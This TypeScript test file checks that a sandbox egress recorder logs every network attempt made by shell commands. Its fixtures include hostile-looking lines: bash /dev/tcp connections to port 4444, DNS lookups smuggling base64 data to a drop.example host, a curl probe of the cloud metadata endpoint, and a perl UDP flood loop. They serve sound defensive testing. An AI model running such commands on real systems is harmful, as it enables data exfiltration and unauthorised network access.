import assert from 'node:assert/strict'
import { hostname } from 'node:os'
import { after, before, describe, it } from 'node:test'
import type { Egress } from '../../../src/sandbox/egress.ts'
import { attempt, identities, startTestEgress } from './inside.ts'

/** What a command does, the script, and everything that is recorded of it. */
const table: readonly (readonly [string, string, readonly string[]])[] = [
  ['does nothing with the network', 'true', []],
  ['asks curl for a page', 'curl -sS -m 5 http://one.example/', ['one.example 80']],
  ['asks curl for a page by TLS', 'curl -sS -m 5 https://one.example/', ['one.example 443']],
  ['asks curl on a port of its own', 'curl -sS -m 5 https://one.example:9443/', ['one.example 9443']],
  ['swallows every error', 'curl -s -m 5 http://one.example/ >/dev/null 2>&1 || true', ['one.example 80']],
  ['uses bash alone, to an address', 'exec 3<>/dev/tcp/8.8.4.4/4444', ['8.8.4.4 4444']],
  ['uses bash alone, to a name', 'exec 3<>/dev/tcp/two.example/22', ['two.example 22']],
  ['connects to an IPv6 address', 'exec 3<>/dev/tcp/2606:4700::1111/853', ['2606:4700::1111 853']],
  ['sends a datagram', 'echo x >/dev/udp/9.9.9.9/123', ['9.9.9.9 123: sent by UDP, which is never carried']],
  [
    'sends a datagram to a name server of its own choice',
    'echo x >/dev/udp/9.9.9.9/53',
    ['9.9.9.9 53: sent by UDP, which is never carried'],
  ],
  [
    'sends a datagram that takes several packets',
    'head -c 4000 /dev/zero >/dev/udp/2606:4700::1111/123; head -c 4000 /dev/zero >/dev/udp/9.9.9.9/124',
    ['2606:4700::1111 123', '9.9.9.9 124'].map((place) => `${place}: sent by UDP, which is never carried`),
  ],
  [
    'asks in a way that nobody answers',
    `for class in 1,3 2,1; do perl -MSocket -e '($n, $c) = split ",", shift; socket(S,2,2,17); send(S, pack("n6",1,256,$n,0,0,0)."\\5chaos\\7example\\0".pack("n2",1,$c), 0, pack_sockaddr_in(53,inet_aton("198.18.0.1")))' $class; done`,
    ['chaos.example', '198.18.0.1 53: sent by UDP, which is never carried'],
  ],
  ['only asks for a name', 'getent hosts just.asked.example', ['just.asked.example']],
  [
    'asks for a name that carries data',
    'getent hosts c2VjcmV0.drop.example; getent hosts bW9yZQ.drop.example',
    ['c2vjcmv0.drop.example', 'bw9yzq.drop.example'],
  ],
  [
    'tries the metadata service',
    'curl -s -m 5 http://169.254.169.254/latest/meta-data/',
    ['169.254.169.254 80'],
  ],
  ['tries a private address', 'exec 3<>/dev/tcp/10.1.2.3/22', ['10.1.2.3 22']],
  [
    'tries several, each once',
    'for i in 1 2 3; do curl -s -m 5 http://a.example http://b.example:81; done; true',
    ['a.example 80', 'b.example 81'],
  ],
  [
    'runs node without any proxy settings',
    `"$NODE" -e 'fetch("https://three.example/x").catch((e) => console.log(e.cause.code))'`,
    ['three.example 443'],
  ],
  [
    'runs perl, which leaves at once',
    `perl -MSocket -e 'socket(S,2,1,6); connect(S, pack_sockaddr_in(25, inet_aton("1.1.1.1")))'`,
    ['1.1.1.1 25'],
  ],
  [
    'pings an address',
    `perl -MSocket -e 'socket(S,2,2,1) or die; connect(S, pack_sockaddr_in(0, inet_aton("8.8.8.8"))); send(S, pack("C2n3", 8, 0, 0, 1, 1), 0); recv(S, $b, 9, 0)'`,
    ['8.8.8.8: sent by a protocol that is never carried'],
  ],
  [
    'asks its name server without end meanwhile',
    `for i in 1 2 3; do timeout 2 perl -MSocket -e 'socket(S,2,2,17); connect(S, pack_sockaddr_in(53,inet_aton("198.18.0.1"))); send(S, pack("n6",1,256,1,0,0,0)."\\11localhost\\0".pack("n2",1,1), 0) for 1 .. 1e8' & done
     sleep 0.5; for i in 1 2 3 4 5 6; do sleep 0.1; exec 3<>/dev/tcp/1.1.1.$i/4444; done; wait`,
    [1, 2, 3, 4, 5, 6].map((part) => `1.1.1.${part} 4444`),
  ],
  ['leaves a process in the background', '(sleep 0.1; exec 3<>/dev/tcp/5.5.5.5/7) & wait', ['5.5.5.5 7']],
  [
    'talks to itself by name and by address',
    'getent hosts localhost; exec 3<>/dev/tcp/127.0.0.1/9; exec 3<>/dev/tcp/::1/9',
    [],
  ],
  ['asks for its own host name', `getent hosts ${hostname()}; hostname -f`, []],
  ['asks who 127.0.0.1 is', `"$NODE" -e 'require("dns").reverse("127.0.0.1", () => {})'`, []],
  ['asks who a public address is', `"$NODE" -e 'require("dns").reverse("8.8.8.8", () => {})'`, ['8.8.8.8']],
]

for (const [who, identity] of identities) {
  describe(`as ${who}, the record names exactly what a command that`, { concurrency: false }, () => {
    let egress: Egress
    before(async () => {
      egress = await startTestEgress({ identity })
    })
    after(() => egress.close())
    for (const [title, script, expected] of table) {
      it(title, async () => {
        const { effects } = await attempt(egress, script, { identity })
        assert.deepEqual(effects, expected)
      })
    }

    it('tried before, and not what another attempt tried', async () => {
      const first = await attempt(egress, 'exec 3<>/dev/tcp/1.1.1.1/1', { identity })
      const second = await attempt(egress, 'exec 3<>/dev/tcp/2.2.2.2/2', { identity })
      const third = await attempt(egress, 'true', { identity })
      assert.deepEqual([first.effects, second.effects, third.effects], [['1.1.1.1 1'], ['2.2.2.2 2'], []])
    })
  })

  describe(`as ${who}, a command's own servers`, { concurrency: false }, () => {
    let egress: Egress
    before(async () => {
      egress = await startTestEgress({ identity })
    })
    after(() => egress.close())
    for (const [where, address] of [
      ['0.0.0.0', '127.0.0.1'],
      ['127.0.0.1', '127.0.0.1'],
      ['::', 'localhost'],
      ['::1', '::1'],
    ] as const) {
      it(`on ${where} serve its own clients on ports that mean something elsewhere`, async () => {
        const low = process.getuid?.() === 0 && identity === undefined ? [53, 80, 443] : []
        const script = `
          const http = require('node:http')
          const ports = ${JSON.stringify([...low, 3000, 5432, 8080, 8443])}
          const answers = ports.map((port) => new Promise((done, fail) => {
            const server = http.createServer((_, response) => response.end('own'))
            server.on('error', fail).listen(port, '${where}', () => http.get({ host: '${address}', port }, (response) => {
              response.setEncoding('utf8').on('data', done).on('end', () => server.close())
            }).on('error', fail))
          }))
          Promise.all(answers).then((all) => console.log(all.join(' ')), (error) => console.log(error.code))`
        const ran = await attempt(egress, `"$NODE" -e '${script.replaceAll("'", '"')}'`, { identity })
        const output = `${Array(low.length + 4)
          .fill('own')
          .join(' ')}\n`
        assert.deepEqual(ran, { output, exitCode: 0, effects: [] })
      })
    }
  })
}

describe('without a packet log', { concurrency: false }, () => {
  let egress: Egress
  before(async () => {
    egress = await startTestEgress({ packetLog: 'none' })
  })
  after(() => egress.close())

  it('the notes say what is not recorded', async () => {
    assert.match((await egress.ready).join(), /uncommon ports are refused but not recorded/)
  })
  it('names and common ports are recorded all the same, also of commands that leave at once', async () => {
    const script = `
      curl -s -m 5 https://one.example/; exec 3<>/dev/tcp/8.8.8.8/22; getent hosts asked.example
      perl -MSocket -e 'socket(S,2,1,6); connect(S, pack_sockaddr_in(25, inet_aton("1.1.1.1")))'`
    const { effects } = await attempt(egress, script)
    assert.deepEqual(effects, ['one.example 443', '8.8.8.8 22', 'asked.example', '1.1.1.1 25'])
  })
  it('another port is refused, and the name still tells the host', async () => {
    const { effects, exitCode } = await attempt(egress, 'exec 3<>/dev/tcp/odd.example/12345')
    assert.deepEqual([effects, exitCode], [['odd.example'], 1])
  })
})
